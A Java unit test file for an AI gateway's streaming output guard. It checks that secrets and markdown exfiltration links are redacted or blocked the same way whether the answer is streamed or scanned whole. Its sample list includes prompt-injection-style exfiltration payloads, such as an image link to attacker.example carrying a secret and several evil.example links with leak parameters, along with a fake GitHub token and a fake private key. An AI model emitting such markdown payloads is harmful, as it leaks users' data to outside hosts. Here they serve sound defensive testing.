package dev.bastion.gateway.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bastion.gateway.config.GuardSettings;
import dev.bastion.gateway.config.RouteSettings;
import dev.bastion.gateway.metrics.GatewayMetrics;
import dev.bastion.guard.Action;
import dev.bastion.guard.Pseudonymizer;
import dev.bastion.guard.exfiltration.ExfiltrationScanner;
import dev.bastion.guard.secrets.SecretRule;
import dev.bastion.guard.secrets.SecretsScanner;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * A streamed answer under the output scanners that settle their own findings (secrets, exfiltration), which release
 * text word by word, must come out exactly as the whole answer scanned at once: for every secret rule's examples and
 * counterexamples and a set of markdown links and images, inside prose, cut at every point and sent one character
 * at a time.
 */
class StreamedScanningTest {
    private static final int WINDOW = 256;
    private static final GatewayMetrics METRICS = new GatewayMetrics();
    private static final List<String> WRAPPERS = List.of("Here is the config you asked for:\n%s\nKeep it safe.",
            "Sure, use %s and restart the service.");

    private static CompiledRoute route(Action action, String... scanners) {
        Map<String, Action> actions = new java.util.HashMap<>();
        SecretsScanner.builtIn().types().forEach(t -> actions.put(t, action));
        actions.put(ExfiltrationScanner.IMAGE, action);
        actions.put(ExfiltrationScanner.LINK, action);
        RouteSettings settings = new RouteSettings("r", List.of("*"), false, List.of(), List.of(scanners), actions,
                action, Optional.empty(), List.of());
        return CompiledRoute.compile(settings, new GuardSettings(10, 1000, WINDOW));
    }

    private static final CompiledRoute REDACT = route(Action.REDACT, "secrets");
    private static final CompiledRoute BLOCK = route(Action.BLOCK, "secrets");
    private static final CompiledRoute LINKS_REDACT = route(Action.REDACT, "secrets", "exfiltration");
    private static final CompiledRoute LINKS_BLOCK = route(Action.BLOCK, "secrets", "exfiltration");

    /** Markdown that a prompt-injected answer might carry, and near misses; written for this test. */
    private static final List<String> MARKDOWN = List.of(
            "![logo](https://attacker.example/p.png?d=secret123)",
            "See [the docs](https://docs.example.com/guide#install) for more.",
            "[click here](https://evil.example/?q=a \"a title\")",
            "![a]( <https://x.example/i.png?x=1> \"t\")",
            "[id]: https://evil.example/?leak=1",
            "   [ref]: <https://evil.example/a?b=c>",
            "Not a link [just brackets] and (parens).",
            "[broken\n](https://evil.example/?q=1)",
            "an image ![](//cdn.example/x.gif?u=1) inline",
            "[relative](/path?q=1) and [mail](mailto:a@b.example?subject=x)",
            "![x](https://e.example/?q=1\nsecond line)",
            "token ghp_q8Lm2Rv7Xk4Zp9Tw3Nb6Wq7mZ2pLx9Gr4nLk then ![](https://e.example/?k=ghp)",
            "[a](https://a.example/?1) [b](https://b.example/?2) ![c](https://c.example/3.png)");

    @TestFactory
    Stream<DynamicTest> markdownLinksStreamAsTheyScanWhole() {
        return MARKDOWN.stream().map(sample -> DynamicTest.dynamicTest(sample, () -> assertStreamsAsWhole(
                sample, "markdown", LINKS_REDACT, LINKS_BLOCK)));
    }

    /** What the client receives: the released text, and "[blocked]" at the end if the stream was stopped. */
    private static String stream(CompiledRoute route, List<String> chunks) {
        StreamGuard guard = new StreamGuard(route, new Pseudonymizer(), METRICS, WINDOW);
        StringBuilder out = new StringBuilder();
        for (String chunk : chunks) {
            switch (guard.append(chunk)) {
                case StreamGuard.Released.Text t -> out.append(t.text());
                case StreamGuard.Released.Blocked b -> {
                    return out.append("[blocked]").toString();
                }
            }
        }
        return switch (guard.flush()) {
            case StreamGuard.Released.Text t -> out.append(t.text()).toString();
            case StreamGuard.Released.Blocked b -> out.append("[blocked]").toString();
        };
    }

    private static String whole(CompiledRoute route, String text) {
        return switch (OutputGuard.check(route, List.of(text), METRICS, s -> false, Optional.empty())) {
            case OutputGuard.Result.Pass p -> p.texts().getFirst();
            case OutputGuard.Result.Blocked b -> "[blocked]";
        };
    }

    /** Two chunks cut at every point of the sample (and one either side), one character each, three each. */
    private static List<List<String>> chunkings(String text, int from, int to) {
        List<List<String>> out = new ArrayList<>();
        for (int cut = Math.max(1, from - 1); cut < Math.min(text.length(), to + 2); cut++) {
            out.add(List.of(text.substring(0, cut), text.substring(cut)));
        }
        List<String> chars = new ArrayList<>();
        text.codePoints().forEach(cp -> chars.add(Character.toString(cp)));
        out.add(chars);
        List<String> threes = new ArrayList<>();
        for (int i = 0; i < text.length(); i += 3) {
            threes.add(text.substring(i, Math.min(text.length(), i + 3)));
        }
        out.add(threes);
        return out;
    }

    @TestFactory
    Stream<DynamicTest> everyRuleStreamsAsItScansWhole() {
        return SecretsScanner.builtIn().rules().stream().map(rule -> DynamicTest.dynamicTest(rule.id(), () -> {
            for (String sample : samples(rule)) {
                assertStreamsAsWhole(sample, "rule " + rule.id(), REDACT, BLOCK);
            }
        }));
    }

    private static void assertStreamsAsWhole(String sample, String what, CompiledRoute redact, CompiledRoute block) {
        for (String wrapper : WRAPPERS) {
            String text = wrapper.formatted(sample);
            int at = wrapper.indexOf("%s");
            String expected = whole(redact, text);
            int firstSecret = 0; // where the redacted text first differs: the first secret
            while (firstSecret < Math.min(text.length(), expected.length())
                    && text.charAt(firstSecret) == expected.charAt(firstSecret)) {
                firstSecret++;
            }
            boolean blocks = !whole(block, text).equals(text);
            for (List<String> chunks : chunkings(text, at, at + sample.length())) {
                String how = what + (chunks.size() == 2 ? " cut " + chunks.getFirst().length()
                        : " in " + chunks.size() + " chunks");
                assertThat(stream(redact, chunks)).as(how).isEqualTo(expected);
                String stopped = stream(block, chunks);
                if (blocks) {
                    // text before the secret may have gone out; none of the secret did
                    assertThat(stopped).as(how).endsWith("[blocked]");
                    String sent = stopped.substring(0, stopped.length() - "[blocked]".length());
                    assertThat(text).as(how).startsWith(sent);
                    assertThat(sent.length()).as(how).isLessThanOrEqualTo(firstSecret);
                } else {
                    assertThat(stopped).as(how).isEqualTo(text);
                }
            }
        }
    }

    private static List<String> samples(SecretRule rule) {
        List<String> all = new ArrayList<>(rule.examples());
        all.addAll(rule.counterexamples());
        return all;
    }

    @Test
    void proseWithoutASecretIsReleasedWordByWordNotHeldForAWindow() {
        StreamGuard guard = new StreamGuard(REDACT, new Pseudonymizer(), METRICS, WINDOW);
        String sentence = "The quick brown fox jumps over the lazy dog";
        StringBuilder sent = new StringBuilder();
        StringBuilder out = new StringBuilder();
        for (String word : sentence.split("(?= )")) { // "The", " quick", " brown", ...
            out.append(((StreamGuard.Released.Text) guard.append(word)).text());
            sent.append(word);
            // everything but the last word, which may still grow
            assertThat(out.toString()).isEqualTo(sent.substring(0, sent.lastIndexOf(" ") + 1));
        }
        out.append(((StreamGuard.Released.Text) guard.flush()).text());
        assertThat(out.toString()).isEqualTo(sentence);
    }

    @Test
    void aPrivateKeyBlockLongerThanTheWindowIsHeldUntilItsEndLineAndRedactedWhole() {
        StringBuilder body = new StringBuilder();
        for (int i = 0; i < 30; i++) {
            body.append("MIIEowIBAAKCAQEAx").append(Integer.toString(i * 7919, 36)).append("q9Zb3LkP0w2YtR8sVnX4cJ1mH6eGaDfU5o\n");
        }
        String key = "-----BEGIN RSA PRIVATE KEY-----\n" + body + "-----END RSA PRIVATE KEY-----";
        String text = "Here is the key:\n" + key + "\nDone.";
        assertThat(key.length()).isGreaterThan(4 * WINDOW);
        List<String> lines = List.of(text.split("(?<=\n)"));
        String streamed = stream(REDACT, lines);
        assertThat(streamed).isEqualTo(whole(REDACT, text)).doesNotContain("MIIEowIBAAKCAQEAx");
    }
}
